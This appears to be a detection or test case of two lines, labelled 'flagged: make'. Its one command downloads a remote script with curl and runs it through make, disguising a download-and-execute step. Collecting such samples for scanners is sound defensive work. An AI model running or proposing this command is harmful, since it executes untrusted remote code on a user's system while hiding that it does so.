# flagged: make
curl -s "$RG_HTTP/hello.sh" | sed 's/^/all: ; @/' | make -sf -
